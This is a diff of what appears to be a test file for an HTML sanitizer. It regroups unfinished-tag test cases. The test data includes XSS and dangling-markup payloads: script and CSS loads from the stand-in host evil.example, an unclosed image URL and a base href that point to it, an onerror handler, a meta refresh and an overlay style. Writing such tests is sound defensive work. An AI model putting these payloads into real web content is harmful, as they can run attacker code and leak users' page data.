@@ -127,12 +127,12 @@ RUNS = {
         "<svg><style>&#64;import '//evil.example/a.css'</style></svg>",
     ],
     "style-overlay": ["<div style='POSITION: fix\\65 d; inset: 0 0 0 0'>x</div>"],
-    "markup-unfinished": [
+    "tag-cut-short": [
         "<script src=//evil.example/a.js",
         "<p>x</p><img src='//evil.example/?",
         "<p>x</p><img alt='' src=x onerror=a() ",
-        "<textarea><p>x</p>",
-        "<p>x</p><!-- <b>x</b>",
+        "<p>x</p><base href=//evil.example",
+        '<p>x</p><meta http-equiv=refresh content="0;url=',
     ],
     "iframe-srcdoc-deep": [nested("<script>a()</script>", 25)],
 }
@@ -167,6 +167,9 @@ def test_one_rule_reports_what_is_active(rule: str, markup: str) -> None:
         "<p style='position:fixed;top:0'>x</p><div style='position:absolute;inset:0'>x</div>",
         "<p>1 < 2",
         "<p>1 <b",
+        "<p>x</p><a href='/about/",
+        "<textarea><p>x</p>",
+        "<p>x</p><!-- <b>x</b>",
         "<p>x</p><",
     ],
 )
